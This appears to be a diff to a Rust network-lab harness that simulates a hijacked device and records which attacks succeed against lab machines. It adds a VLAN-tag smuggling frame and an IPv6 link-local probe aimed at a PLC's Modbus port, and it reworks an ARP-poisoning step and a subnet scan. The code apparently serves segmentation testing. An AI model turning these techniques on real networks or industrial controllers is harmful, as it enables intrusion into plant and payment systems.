@@ -4,7 +4,8 @@
 use std::fmt;
 use std::fs;
 use std::io::{self, Write};
-use std::net::Ipv4Addr;
+use std::net::{Ipv4Addr, Ipv6Addr, SocketAddrV6, UdpSocket};
+use std::thread;
 use std::time::Duration;
 
 use model::Mac;
@@ -18,7 +19,7 @@ use crate::{Device, Lab, LabError, client, sys, traffic, wait};
 pub struct Report {
     /// The device that was taken over.
     pub device: String,
-    /// Addresses of the subnet that answered its scan, of 253 others.
+    /// Addresses that answered its scan of the first hundred of the subnet.
     pub found: Vec<Ipv4Addr>,
     /// Every port it tried on every machine.
     pub probes: Vec<Verdict>,
@@ -75,20 +76,47 @@ pub fn take_over(lab: &Lab, device: &str) -> Result<Report, LabError> {
     let others = lab.devices().iter().filter(|other| other.name != attacker.name);
     probes.extend(others.map(|other| Probe::tcp(attacker.name, other.name, 22)));
     let probes = probe::matrix(lab, &probes)?;
-    let steps = [overwrite, steal, charge, look_into_till, forge, pretend, poison];
-    let steps = steps.iter().map(|step| step(lab, attacker)).collect::<Result<_, _>>()?;
-    Ok(Report { device: device.to_owned(), found, probes, steps })
+    // At once, as malware does; and a fenced attacker runs into timeouts only once.
+    let tries: [fn(&Lab, &Device) -> Done; 9] = [
+        overwrite,
+        steal,
+        charge,
+        look_into_till,
+        forge,
+        pretend,
+        poison,
+        smuggle,
+        over_ipv6,
+    ];
+    let steps = thread::scope(|scope| {
+        let running = tries.map(|step| scope.spawn(move || step(lab, attacker)));
+        let ended = running.into_iter().map(|step| match step.join() {
+            Ok(step) => step,
+            Err(_) => Err(LabError::failed("attack", "a thread panicked")),
+        });
+        ended.collect::<Result<Vec<_>, _>>()
+    })?;
+    Ok(Report {
+        device: device.to_owned(),
+        found,
+        probes,
+        steps,
+    })
 }
 
-/// Tries port 80 of every address of the subnet; who answers, is found.
+/// Tries port 80 of the first hundred addresses of the subnet; who answers, is found. (All
+/// namespaces of a machine share one neighbour table of a thousand entries.)
 fn scan(attacker: &Device) -> Result<Vec<Ipv4Addr>, LabError> {
     let [a, b, c, _] = SUBNET.0.octets();
-    let addresses =
-        (1..=254).map(|host| Ipv4Addr::new(a, b, c, host)).filter(|ip| *ip != attacker.ip);
+    let addresses = (1..=SCANNED)
+        .map(|host| Ipv4Addr::new(a, b, c, host))
+        .filter(|ip| *ip != attacker.ip);
     let scan = || probe::answering(addresses.clone(), 80);
     let found = attacker.netns.enter(scan).map_err(|error| LabError::failed("scan", error))?;
     Ok(found)
 }
+
+const SCANNED: u8 = 100;
 
 type Done = Result<Step, LabError>;
 
@@ -190,10 +218,7 @@ fn poison(lab: &Lab, attacker: &Device) -> Done {
     };
     let tell = |mac: Mac| {
         let frame = arp_answer(till.mac, till.ip, mac, GATEWAY);
-        let _ = attacker.netns.enter(|| {
-            let mut socket = fs::File::from(sys::packet_socket("eth0", false)?);
-            socket.write_all(&frame)
-        });
+        send_frame(attacker, &frame);
     };
     // A fresh entry is locked for a second.
     let deadline = wait::now() + Duration::from_millis(1_500);
@@ -210,6 +235,70 @@ fn poison(lab: &Lab, attacker: &Device) -> Done {
         })?;
     }
     step("take the gateway's place for the till (ARP)", "till", success)
+}
+
+/// Sends to the PLC inside an 802.1Q tag, which filters on IP headers overlook.
+fn smuggle(lab: &Lab, attacker: &Device) -> Done {
+    let plc = lab.device("plc")?;
+    let witness = Witness::start(plc)?;
+    let mut frame = plc.mac.0.to_vec();
+    frame.extend(attacker.mac.0);
+    // VLAN 1; IPv4, 28 bytes, TTL 64, UDP; checksums are not looked at by a witness.
+    frame.extend([0x81, 0, 0, 1, 8, 0]);
+    frame.extend([0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0]);
+    frame.extend(attacker.ip.octets());
+    frame.extend(plc.ip.octets());
+    for word in [SMUGGLED, 502, 8, 0u16] {
+        frame.extend(word.to_be_bytes());
+    }
+    send_frame(attacker, &frame);
+    wait::pass(Duration::from_millis(200))?;
+    let success = witness.stop().contains(&(17, attacker.ip, SMUGGLED, 502));
+    step("reach the PLC inside a VLAN tag", "plc", success)
+}
+
+/// Source port that tells the smuggled packet from others.
+const SMUGGLED: u16 = 40_502;
+
+fn send_frame(attacker: &Device, frame: &[u8]) {
+    let interface = attacker.interface;
+    // That it fails is what the victim's view tells.
+    let _ = attacker.netns.enter(|| {
+        let mut socket = fs::File::from(sys::packet_socket(interface, false)?);
+        socket.write_all(frame)
+    });
+}
+
+/// Sends to the PLC's IPv6 link-local address, which nobody thought of; a refusal has arrived.
+fn over_ipv6(lab: &Lab, attacker: &Device) -> Done {
+    let plc = link_local(lab.device("plc")?.mac);
+    let interface = attacker.interface;
+    let refused = attacker.netns.enter(|| {
+        let index = fs::read_to_string("/proc/thread-self/net/if_inet6")
+            .ok()
+            .and_then(|table| {
+                let row = table
+                    .lines()
+                    .find(|line| line.ends_with(interface))?
+                    .to_owned();
+                u32::from_str_radix(row.split_whitespace().nth(1)?, 16).ok()
+            });
+        let socket = UdpSocket::bind((Ipv6Addr::UNSPECIFIED, 0))?;
+        socket.set_read_timeout(Some(Duration::from_millis(500)))?;
+        socket.connect(SocketAddrV6::new(plc, 502, 0, index.unwrap_or(0)))?;
+        socket.send(b"hello")?;
+        socket.recv(&mut [0; 16])
+    });
+    let refused =
+        refused.is_ok_and(|r| r.is_err_and(|e| e.kind() == io::ErrorKind::ConnectionRefused));
+    step("reach the PLC over IPv6", "plc", refused)
+}
+
+/// fe80::/64 with the modified EUI-64 of the link address (RFC 4291 appendix A).
+fn link_local(mac: Mac) -> Ipv6Addr {
+    let [a, b, c, d, e, f] = mac.0;
+    let low = u64::from_be_bytes([a ^ 2, b, c, 0xff, 0xfe, d, e, f]);
+    Ipv6Addr::from((0xfe80u128 << 112) | u128::from(low))
 }
 
 /// An unasked ARP reply (RFC 826): `ip` is at `mac`.
